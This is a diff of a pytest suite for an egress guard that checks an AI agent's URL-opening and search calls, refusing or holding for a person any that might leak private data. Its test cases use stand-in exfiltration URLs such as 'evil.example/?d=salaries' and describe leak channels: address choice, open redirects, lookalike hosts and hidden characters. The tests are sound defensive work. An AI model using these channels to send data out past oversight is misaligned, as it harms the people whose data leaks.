@@ -38,19 +38,19 @@ class Words(BaseModel):
     count: int = 5
 
 
-def opener(seen: list[str], page: str = PAGE) -> Tool:
+def opener(seen_urls: list[str], page: str = PAGE) -> Tool:
     async def fetch(arguments: Where, _bench: Workbench) -> ToolOutcome:
         """Open a page."""
-        seen.append(arguments.url)
+        seen_urls.append(arguments.url)
         return ToolOutcome(page)
 
     return Tool("open", "read", Where, fetch, url="url", finds_urls=True)
 
 
-def searcher(seen: list[tuple[str, int]]) -> Tool:
+def searcher(seen_queries: list[tuple[str, int]]) -> Tool:
     async def find(arguments: Words, _bench: Workbench) -> ToolOutcome:
         """Search."""
-        seen.append((arguments.query, arguments.count))
+        seen_queries.append((arguments.query, arguments.count))
         return ToolOutcome("1. https://a.example/found")
 
     def sends(call: Words) -> OutgoingData:
@@ -62,7 +62,9 @@ def searcher(seen: list[tuple[str, int]]) -> Tool:
 OPEN, FIND = opener([]), searcher([])
 
 
-def bound(*words: str, page: str = "", private: tuple[str, ...] = (), allow_out: tuple[str, ...] = ()) -> EgressGuard:
+def make_guard(
+    *words: str, page: str = "", private: tuple[str, ...] = (), allow_out: tuple[str, ...] = ()
+) -> EgressGuard:
     """A guard that was handed what others found, and has read a page."""
     tools = {tool.name: tool for tool in (OPEN, FIND, Looker().tool())}
     guard = EgressGuard(
@@ -73,33 +75,33 @@ def bound(*words: str, page: str = "", private: tuple[str, ...] = (), allow_out:
     return guard
 
 
-def ruled(guard: EgressGuard, url: str) -> str:
+def judge_url(guard: EgressGuard, url: str) -> str:
     """The URL that would go out, `asks`, or the note of a refusal."""
     verdict = guard.judge_call(OPEN, Where(url=url))
-    return verdict.refusal_note or ("asks" if verdict.unreleased else str(verdict.arguments.model_dump()["url"]))
+    return verdict.refusal_note or ("asks" if verdict.unreleased_data else str(verdict.arguments.model_dump()["url"]))
 
 
-def searched(guard: EgressGuard, query: str, count: int = 5) -> str:
+def judge_query(guard: EgressGuard, query: str, count: int = 5) -> str:
     verdict = guard.judge_call(FIND, Words(query=query, count=count))
     sent = verdict.arguments.model_dump()
-    return "asks" if verdict.unreleased else f"{sent['query']}/{sent['count']}"
+    return "asks" if verdict.unreleased_data else f"{sent['query']}/{sent['count']}"
 
 
 # ---------------------------------------------------------------- with nothing private in view
 
 
 @pytest.mark.parametrize(
-    ("address", "given"),
+    ("address", "given_url"),
     [
         ("https://a.example/more?page=2", "https://a.example/more?page=2"),
         ("https://b.example/wiki/Sea_%28north%29", "https://b.example/wiki/Sea_(north)"),
     ],
 )
-def test_what_a_page_gave_is_asked_for_as_it_was_given_however_it_is_spelt(address: str, given: str) -> None:
-    assert ruled(bound(page=PAGE), address) == given
+def test_what_a_page_gave_is_asked_for_as_it_was_given_however_it_is_spelt(address: str, given_url: str) -> None:
+    assert judge_url(make_guard(page=PAGE), address) == given_url
 
 
-MADE = [
+MADE_UP_URLS = [
     "https://a.example/more?page=2&d=salaries",
     "https://a.example/more/salaries",
     "https://a.example/",
@@ -117,35 +119,35 @@ MADE = [
 ]
 
 
-@pytest.mark.parametrize("address", MADE)
+@pytest.mark.parametrize("address", MADE_UP_URLS)
 def test_what_the_model_put_together_is_refused(address: str) -> None:
-    assert ruled(bound(page=PAGE), address) == "url_refused"
+    assert judge_url(make_guard(page=PAGE), address) == "url_refused"
 
 
 @pytest.mark.parametrize("words", ["see acme.example/prices", "Acme.example, please", "(https://www.acme.example)"])
 def test_any_page_of_a_host_that_the_requester_named_may_be_opened(words: str) -> None:
-    guard = bound(words)
+    guard = make_guard(words)
     url = "https://acme.example/terms?year=2026"
-    assert ruled(guard, url) == url
-    assert ruled(guard, "https://acme.example.evil.example/") == "url_refused"
-    assert ruled(guard, "https://docs.acme.example/") == "url_refused"
-    assert ruled(bound("ask bob@acme.example"), "https://acme.example/") == "url_refused"
+    assert judge_url(guard, url) == url
+    assert judge_url(guard, "https://acme.example.evil.example/") == "url_refused"
+    assert judge_url(guard, "https://docs.acme.example/") == "url_refused"
+    assert judge_url(make_guard("ask bob@acme.example"), "https://acme.example/") == "url_refused"
 
 
 def test_queries_are_free_and_go_out_as_they_are() -> None:
-    assert searched(bound("the sea"), "Copper price, 2026", 9) == "Copper price, 2026/9"
+    assert judge_query(make_guard("the sea"), "Copper price, 2026", 9) == "Copper price, 2026/9"
 
 
 def test_choosing_among_known_addresses_is_counted_by_site() -> None:
     """Channel 3: a page that lists an address for each letter; 330 of them carried 330 bits."""
     letters = [f"https://x{number}.evil.example/{number}" for number in range(330)]
-    guard = bound(page=" ".join(letters))
-    opened = [url for url in letters if ruled(guard, url) == url]
+    guard = make_guard(page=" ".join(letters))
+    opened = [url for url in letters if judge_url(guard, url) == url]
     assert len(opened) == MAX_REQUESTS_PER_SITE
-    assert ruled(guard, "https://x329.evil.example/329") == "asks"
+    assert judge_url(guard, "https://x329.evil.example/329") == "asks"
     sites = [f"https://evil{number}.example/x" for number in range(330)]
-    guard = bound(page=" ".join(sites))
-    assert len([url for url in sites if ruled(guard, url) == url]) == MAX_REQUESTS
+    guard = make_guard(page=" ".join(sites))
+    assert len([url for url in sites if judge_url(guard, url) == url]) == MAX_REQUESTS
 
 
 def test_other_tools_name_no_addresses_since_a_model_can_have_them_say_anything() -> None:
@@ -153,38 +155,40 @@ def test_other_tools_name_no_addresses_since_a_model_can_have_them_say_anything(
     guard.record_reply("look", ToolReply(call_id="1", text="https://evil.example/?d=salaries"))
     guard.record_reply("open", ToolReply(call_id="2", text="refused: https://evil.example/?d=salaries", failed=True))
     guard.begin_turn_calls()
-    assert ruled(guard, "https://evil.example/?d=salaries") == "url_refused"
+    assert judge_url(guard, "https://evil.example/?d=salaries") == "url_refused"
 
 
 # ---------------------------------------------------------------- with something private in view
 
 
 def private(*words: str, page: str = PAGE, **more: Any) -> EgressGuard:
-    return bound(*words, page=page, private=("salaries.csv",), **more)
+    return make_guard(*words, page=page, private=("salaries.csv",), **more)
 
 
-@pytest.mark.parametrize("address", [one for one in MADE if one.startswith("https://") and one.count("@") == 0][:-1])
+@pytest.mark.parametrize(
+    "address", [one for one in MADE_UP_URLS if one.startswith("https://") and one.count("@") == 0][:-1]
+)
 def test_an_address_of_the_models_own_making_waits_for_a_person(address: str) -> None:
-    assert ruled(private(), address) == "asks"
+    assert judge_url(private(), address) == "asks"
 
 
 def test_an_address_that_the_web_gave_waits_too_and_one_that_the_requester_wrote_is_free() -> None:
     guard = private("compare with acme.example/prices and https://b.example/x?y=1")
-    assert ruled(guard, "https://a.example/more?page=2") == "asks"
-    assert ruled(guard, "HTTPS://www.Acme.example/%70rices/#salary") == "https://acme.example/prices"
-    assert ruled(guard, "https://b.example/x") == "https://b.example/x?y=1"
-    assert ruled(guard, "https://acme.example/prices?d=184200") == "asks"
-    assert ruled(guard, "https://acme.example/184200") == "asks"
+    assert judge_url(guard, "https://a.example/more?page=2") == "asks"
+    assert judge_url(guard, "HTTPS://www.Acme.example/%70rices/#salary") == "https://acme.example/prices"
+    assert judge_url(guard, "https://b.example/x") == "https://b.example/x?y=1"
+    assert judge_url(guard, "https://acme.example/prices?d=184200") == "asks"
+    assert judge_url(guard, "https://acme.example/184200") == "asks"
 
 
 def test_a_private_brief_asks_from_the_first_turn_on() -> None:
     guard = EgressGuard(Provenance(("the sea",), private_names=("the thread",)), {"open": OPEN})
-    assert ruled(guard, "https://x.example/a") == "asks"
+    assert judge_url(guard, "https://x.example/a") == "asks"
 
 
 def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     verdict = private().judge_call(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
-    asks = verdict.unreleased
+    asks = verdict.unreleased_data
     assert asks is not None
     assert verdict.recipient == "evil.example"
     wire, _, clear = asks.text.splitlines()
@@ -192,16 +196,16 @@ def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
     assert asks.reason == "a model put this together or took it from the web, and could see salaries.csv"
     query = private().judge_call(FIND, Words(query="salary 184,200"))
-    assert query.unreleased is not None
+    assert query.unreleased_data is not None
     assert query.recipient == "engine.example"
-    assert query.unreleased.text.splitlines()[-1] == "salary 184,200"
+    assert query.unreleased_data.text.splitlines()[-1] == "salary 184,200"
 
 
 def test_a_host_in_letters_that_look_like_others_is_shown_as_it_is_looked_up() -> None:
     verdict = private().judge_call(OPEN, Where(url="https://\u0430cme.example/x"))
-    assert verdict.unreleased is not None
+    assert verdict.unreleased_data is not None
     assert verdict.recipient == "xn--cme-5cd.example"
-    assert verdict.unreleased.text == "GET https://xn--cme-5cd.example/x"
+    assert verdict.unreleased_data.text == "GET https://xn--cme-5cd.example/x"
 
 
 def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
@@ -209,57 +213,58 @@ def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
         OPEN, name="post", sends=lambda call: OutgoingData("acme.example", f"POST {call.url} {call.start}")
     )
     guard = private("see https://acme.example/x")
-    asks = guard.judge_call(poster, Where(url="https://acme.example/%78", start=184200)).unreleased
+    asks = guard.judge_call(poster, Where(url="https://acme.example/%78", start=184200)).unreleased_data
     assert asks is not None
     assert asks.text == "POST https://acme.example/x 184200"
-    assert bound().judge_call(poster, Where(url="https://evil.example/")).refusal_note == "url_refused"
+    assert make_guard().judge_call(poster, Where(url="https://evil.example/")).refusal_note == "url_refused"
     assert (
-        bound("see https://acme.example/x").judge_call(poster, Where(url="https://acme.example/x")).unreleased is None
+        make_guard("see https://acme.example/x").judge_call(poster, Where(url="https://acme.example/x")).unreleased_data
+        is None
     )
 
 
 def test_what_cannot_be_shown_whole_is_not_asked() -> None:
-    assert ruled(private(), f"https://evil.example/{'x' * MAX_SHOWN_CHARACTERS}") == "too_long_to_ask"
+    assert judge_url(private(), f"https://evil.example/{'x' * MAX_SHOWN_CHARACTERS}") == "too_long_to_ask"
 
 
 @pytest.mark.parametrize("query", ["market salaries 184,200 EUR", "the sea J. Doe", "sea\u0430", "merger"])
 def test_a_query_in_other_words_than_the_requesters_waits(query: str) -> None:
-    assert searched(private("the sea in 2026"), query) == "asks"
+    assert judge_query(private("the sea in 2026"), query) == "asks"
 
 
 def test_a_query_in_the_requesters_words_is_free_until_choosing_them_has_said_enough() -> None:
     """The spelling and the number of hits are ours: they would carry more than the words do."""
     guard = private("How warm is the North Sea in 2026?")
-    assert searched(guard, "NORTH  sea, in 2026!", count=9) == "North Sea in 2026/5"
+    assert judge_query(guard, "NORTH  sea, in 2026!", count=9) == "North Sea in 2026/5"
     words = ["warm sea how", "sea north 2026", "is warm 2026 north", "how sea the warm is"]
-    free = [query for query in words if searched(guard, query) != "asks"]
+    free = [query for query in words if judge_query(guard, query) != "asks"]
     assert 0 < len(free) < len(words)
 
 
 def test_what_a_tool_gave_makes_the_turns_after_it_wait() -> None:
     tools = {tool.name: tool for tool in (OPEN, FIND, Looker().tool())}
     guard = EgressGuard(Provenance(("the sea",)), tools)
-    assert searched(guard, "anything") == "anything/5"
+    assert judge_query(guard, "anything") == "anything/5"
     guard.record_reply("look", ToolReply(call_id="1", text="no such column: salary", failed=True))
-    assert searched(guard, "something") == "something/5", "the turn was taken before"
+    assert judge_query(guard, "something") == "something/5", "the turn was taken before"
     guard.begin_turn_calls()
-    assert searched(guard, "anything") == "asks"
-    assert ruled(guard, "https://x.example/a") == "asks"
+    assert judge_query(guard, "anything") == "asks"
+    assert judge_url(guard, "https://x.example/a") == "asks"
 
 
 def test_what_a_crew_allows_needs_nobody() -> None:
     guard = private(allow_out=("find", "Docs.python.org"))
-    assert searched(guard, "salary 184,200") == "salary 184,200/5"
-    assert ruled(guard, "https://docs.python.org/3/?q=184200") == "https://docs.python.org/3/?q=184200"
-    assert ruled(guard, "https://docs.python.org.evil.example/") == "asks"
-    assert ruled(guard, "https://evil.docs.python.org/") == "asks"
+    assert judge_query(guard, "salary 184,200") == "salary 184,200/5"
+    assert judge_url(guard, "https://docs.python.org/3/?q=184200") == "https://docs.python.org/3/?q=184200"
+    assert judge_url(guard, "https://docs.python.org.evil.example/") == "asks"
+    assert judge_url(guard, "https://evil.docs.python.org/") == "asks"
 
 
 def test_a_tool_that_sends_its_arguments_waits_whatever_they_are() -> None:
     other = replace(FIND, name="ask_board", sent_words="", finds_urls=False)
     guard = EgressGuard(Provenance(("the sea",), private_names=("a.csv",)), {"ask_board": other})
     verdict = guard.judge_call(other, Words(query="the sea"))
-    assert verdict.unreleased is not None
+    assert verdict.unreleased_data is not None
     assert verdict.recipient == "engine.example"
 
 
@@ -282,16 +287,16 @@ def test_a_redirect_of_a_given_address_is_judged_as_an_address(target: str, with
     words = "compare acme.example/prices with https://b.example/y"
     given = "https://acme.example/prices"
     assert private(words).may_follow(given, target) is with_private
-    assert bound(words).may_follow(given, target) is without
+    assert make_guard(words).may_follow(given, target) is without
 
 
 def test_an_open_redirect_of_a_named_host_leads_nowhere_else() -> None:
     """Channel 5: whoever writes "compare with google.example" would open every redirect there."""
-    guard = bound("compare with google.example")
+    guard = make_guard("compare with google.example")
     made = "https://google.example/url?q=https://evil.example/?d=184200"
-    assert ruled(guard, made) == made
+    assert judge_url(guard, made) == made
     assert not guard.may_follow(made, "https://evil.example/?d=184200")
-    assert ruled(guard, "https://evil.example/?d=184200") == "url_refused"
+    assert judge_url(guard, "https://evil.example/?d=184200") == "url_refused"
 
 
 # ---------------------------------------------------------------- in attempts
@@ -300,19 +305,21 @@ def test_an_open_redirect_of_a_named_host_leads_nowhere_else() -> None:
 FREE, LEAK, LINK = "https://x.example/a", "https://evil.example/?d=salaries", "https://a.example/more?page=2"
 
 
-async def opened(*turns: tuple[str, ...], log: KeptLog | None = None, told: str = "", bench: EmptyBench) -> list[str]:
+async def open_urls(
+    *turns: tuple[str, ...], log: KeptLog | None = None, note_text: str = "", bench: EmptyBench
+) -> list[str]:
     seen: list[str] = []
     moves = [*(calling(*(("open", {"url": url}) for url in urls)) for urls in turns), returning()]
     task = handoff()
-    if told:
-        task = task.model_copy(update={"context": (Note(source="Salaries", text=told),)})
+    if note_text:
+        task = task.model_copy(update={"context": (Note(source="Salaries", text=note_text),)})
     await play(moves, opener(seen), Looker().tool(), task=task, bench=bench, log=log)
     return seen
 
 
 async def test_a_fresh_brief_may_be_looked_up_freely_until_something_was_read() -> None:
     log = KeptLog()
-    seen = await opened((FREE, "https://y.example"), (LEAK, LINK), log=log, bench=EmptyBench())
+    seen = await open_urls((FREE, "https://y.example"), (LEAK, LINK), log=log, bench=EmptyBench())
     assert seen == [FREE, "https://y.example", LINK]
     refused = next(reply for reply in log.replies if reply.failed)
     assert refused.text.startswith("open was not run.")
@@ -322,21 +329,21 @@ async def test_a_fresh_brief_may_be_looked_up_freely_until_something_was_read() 
 async def test_what_others_found_goes_nowhere_from_the_first_turn_on() -> None:
     named = "https://acme.example/x"
     people = Provenance(("On acme.example?",))
-    assert await opened((LEAK, named), told=f"see {LEAK}", bench=EmptyBench(people)) == [named]
-    assert await opened((LEAK, named), bench=EmptyBench(replace(people, has_derived_content=True))) == [named]
+    assert await open_urls((LEAK, named), note_text=f"see {LEAK}", bench=EmptyBench(people)) == [named]
+    assert await open_urls((LEAK, named), bench=EmptyBench(replace(people, has_derived_content=True))) == [named]
 
 
 async def test_an_attempt_that_changed_hands_decides_as_the_first_would_have() -> None:
     log = KeptLog()
-    whole = await opened((FREE, "https://y.example"), (LEAK, LINK), log=log, bench=EmptyBench())
+    whole = await open_urls((FREE, "https://y.example"), (LEAK, LINK), log=log, bench=EmptyBench())
     for cut in range(1, len(log.history)):
         kept = KeptLog(history=list(log.history[:cut]))
         rest = [(FREE, "https://y.example"), (LEAK, LINK)][len(kept.turns) :]
-        done = [url for url in whole if _replied(kept, url)]
-        assert [*done, *await opened(*rest, log=kept, bench=EmptyBench())] == whole, cut
+        done = [url for url in whole if _has_reply(kept, url)]
+        assert [*done, *await open_urls(*rest, log=kept, bench=EmptyBench())] == whole, cut
 
 
-SEEN = EmptyBench(
+PRIVATE_BENCH = EmptyBench(
     Provenance(("Is the sea warm at acme.example/sea?",), private_names=("salaries.csv",), leak_share=0.25)
 )
 
@@ -351,11 +358,11 @@ async def test_where_nobody_can_be_asked_the_call_is_refused_and_the_work_goes_o
         ),
         returning(),
     ]
-    await finish(moves, opener(opened), searcher(found), bench=SEEN, log=log)
+    await finish(moves, opener(opened), searcher(found), bench=PRIVATE_BENCH, log=log)
     assert (found, opened) == ([("warm sea", 5)], [])
     refused = [reply.text for reply in log.replies if reply.failed]
     assert all("nobody is there to ask" in text for text in refused)
-    assert sorted(log.sent) == [
+    assert sorted(log.sendings) == [
         ("find", "engine.example", ""),
         ("find", "engine.example", "nobody_to_ask"),
         ("open", "evil.example", "nobody_to_ask"),
@@ -370,14 +377,14 @@ async def test_an_attempt_that_changed_hands_has_spent_what_the_first_had() -> N
     found: list[tuple[str, int]] = []
     log = KeptLog(can_ask=False)
     moves = [*(calling(one) for one in queries), returning()]
-    await play(moves, searcher(found), max_turns=9, bench=SEEN, log=log)
+    await play(moves, searcher(found), max_turns=9, bench=PRIVATE_BENCH, log=log)
     assert 0 < len(found) < len(queries)
     for cut in range(1, len(log.history)):
         kept = KeptLog(list(log.history[:cut]), can_ask=False)
         rest = [calling(one) for one in queries[len(kept.turns) :]]
         again: list[tuple[str, int]] = []
         done = sum(not reply.failed for reply in kept.replies)
-        await play([*rest, returning()], searcher(again), max_turns=9, bench=SEEN, log=kept)
+        await play([*rest, returning()], searcher(again), max_turns=9, bench=PRIVATE_BENCH, log=kept)
         assert [*found[:done], *again] == found, cut
 
 
@@ -399,9 +406,9 @@ async def test_a_redirect_is_judged_and_recorded_as_a_call_is() -> None:
 
     tool = Tool("open", "read", Where, fetch, url="url", finds_urls=True)
     moves = [calling(("open", {"url": "https://acme.example/%73ea"})), returning()]
-    await play(moves, tool, bench=SEEN, log=log)
+    await play(moves, tool, bench=PRIVATE_BENCH, log=log)
     assert ways == [True, False]
-    assert log.sent == [("open", "acme.example", ""), ("redirect", "evil.example", "redirect_refused")]
+    assert log.sendings == [("open", "acme.example", ""), ("redirect", "evil.example", "redirect_refused")]
 
 
 def test_a_tool_that_names_arguments_it_lacks_is_faulty() -> None:
@@ -410,7 +417,7 @@ def test_a_tool_that_names_arguments_it_lacks_is_faulty() -> None:
     assert FIND.faults == OPEN.faults == ()
 
 
-def _replied(log: KeptLog, url: str) -> bool:
+def _has_reply(log: KeptLog, url: str) -> bool:
     calls = {}
     for item in log.history:
         if isinstance(item, TurnTaken):
